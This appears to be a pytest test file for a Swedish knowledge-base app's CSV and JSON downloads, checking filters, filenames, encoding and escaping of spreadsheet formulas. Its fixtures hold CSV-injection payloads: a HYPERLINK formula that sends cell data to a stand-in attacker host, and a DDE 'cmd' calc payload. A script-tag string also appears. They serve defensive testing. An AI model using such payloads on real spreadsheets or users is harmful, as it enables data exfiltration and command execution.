"""Ladda ner (issue 15): CSV (UTF-8 with BOM) and JSON downloads of the API's lists, with the
page's filters, a filename, and no cell a spreadsheet would run as a formula."""

# ruff: noqa: F811 - the fixtures imported below are pytest's, named again as arguments

from __future__ import annotations

import csv
import io
import json

import pytest

from ingest.pipeline import ingest
from kb.records.importer import import_records
from tests.test_record_pages import with_second
from tests.test_records import folder, records, rkb, write_yaml  # noqa: F401
from web import create_app
from web.views.export import safe_cell

HOSTILE = (
    '---\ntitle: \'=HYPERLINK("http://angripare.example/?"&A1;"Klicka")\'\nkind: report\n'
    "agency: Trafikverket\ndate: 2024\n---\n\nSignalsystemet och dess kostnader i en elak fil.\n"
)


@pytest.fixture
def client(rkb, tmp_path):
    import_records(rkb, write_yaml(tmp_path, with_second()))
    extra = tmp_path / "extra"
    extra.mkdir()
    (extra / "elak.md").write_text(HOSTILE, encoding="utf-8")
    (extra / "vaxjo.md").write_text(
        "---\ntitle: Växjö kommuns e-tjänster för äldreomsorg\nkind: case\n"
        "agency: Skatteverket\ndate: 2020\n---\n\nÅtta tjänster för hemtjänst och färdtjänst.\n",
        encoding="utf-8",
    )
    assert ingest(rkb, [extra]).ok
    app = create_app({"TESTING": True}, kb_config=rkb.config, embedder=rkb.embedder)
    return app.test_client()


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype == "text/csv"
    assert response.data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for UTF-8
    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))


def disposition(response) -> str:
    return response.headers["Content-Disposition"]


def test_the_document_list_as_csv_keeps_swedish_letters_and_the_page_filters(client):
    everything = csv_rows(client.get("/api/documents?format=csv"))
    assert "Växjö kommuns e-tjänster för äldreomsorg" in {r["title"] for r in everything}
    response = client.get("/api/documents?format=csv&agency=Skatteverket&kind=case")
    rows = csv_rows(response)
    page = client.get("/api/documents?agency=Skatteverket&kind=case").get_json()
    assert [r["id"] for r in rows] == [d["id"] for d in page] == ["vaxjo"]
    assert rows[0]["url"] == "http://localhost/documents/vaxjo"
    name = disposition(response)
    assert name.startswith('attachment; filename="erfarenhetsbanken-dokument-skatteverket-case-')
    assert name.endswith('.csv"')


def test_search_results_download_as_the_api_finds_them(client):
    url = "/api/search?q=signalsystemet+kostnader&agency=Trafikverket&per_page=100"
    rows = csv_rows(client.get(url + "&format=csv"))
    found = client.get(url).get_json()["results"]
    assert [r["id"] for r in rows] == [h["doc_id"] for h in found]
    assert [r["rank"] for r in rows] == [str(n) for n in range(1, len(rows) + 1)]
    assert "ertms" in {r["id"] for r in rows}
    assert "vaxjo" not in {r["id"] for r in rows}  # another agency
    response = client.get(url + "&format=json")
    assert response.get_json() == client.get(url).get_json()
    assert "erfarenhetsbanken-sok-signalsystemet-kostnader-" in disposition(response)
    assert disposition(response).endswith('.json"')


def test_investments_and_lessons_download_with_their_filters(client):
    rows = csv_rows(client.get("/api/investments?format=csv&outcome=lyckad"))
    assert [(r["id"], r["agency"]) for r in rows] == [
        ("skatteverket-folkbokforing", "Skatteverket")
    ]
    # the investment's name with its markup is plain text in a cell, as written
    assert rows[0]["name"] == "Ny folkbokföring <script>alert(1)</script>"
    lessons = csv_rows(client.get("/api/lessons?format=csv&polarity=gick+dåligt"))
    assert {r["polarity"] for r in lessons} == {"gick dåligt"}
    assert len(lessons) == 2
    url = "/api/lessons?q=kostnaderna+underskattades"
    by_meaning = csv_rows(client.get(url + "&format=csv"))
    assert [r["id"] for r in by_meaning] == [h["lesson"]["id"] for h in client.get(url).get_json()]
    assert all(r["match"] for r in by_meaning)


def test_a_cell_that_looks_like_a_formula_is_written_as_text(client):
    rows = csv_rows(client.get("/api/documents?format=csv"))
    (hostile,) = [r for r in rows if r["id"] == "elak"]
    assert hostile["title"].startswith("'=HYPERLINK(")
    for value in ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", " =1", "\t=1", "＝1", "\r=1"]:
        assert safe_cell(value) == "'" + value, value
    assert safe_cell("Trafikverket") == "Trafikverket"
    assert safe_cell(-3.5) == -3.5  # a number stays a number
    assert safe_cell(["a", "=b"]) == "a; =b"  # a joined list starts as its first value does


def test_an_unknown_format_is_a_clear_400(client):
    response = client.get("/api/documents?format=xlsx")
    assert response.status_code == 400
    assert "xlsx" in response.get_json()["error"]


def test_each_list_page_links_its_download_with_its_filters(client):
    for page, link in [
        ("/documents/?agency=Skatteverket", "/api/documents?agency=Skatteverket&amp;format=csv"),
        ("/investeringar/?outcome=lyckad", "/api/investments?outcome=lyckad&amp;format=csv"),
        ("/?q=signalsystemet", "/api/search?q=signalsystemet&amp;per_page=100&amp;format=csv"),
    ]:
        html = client.get(page, headers={"Accept-Language": "sv"}).get_data(as_text=True)
        assert f'href="{link}" download>Ladda ner (CSV)</a>' in html, page
        assert client.get(link.replace("&amp;", "&")).status_code == 200


def test_the_json_download_is_the_list_route_json(client):
    response = client.get("/api/investments?format=json")
    assert json.loads(response.data) == client.get("/api/investments").get_json()
    assert disposition(response).startswith('attachment; filename="erfarenhetsbanken-invest')
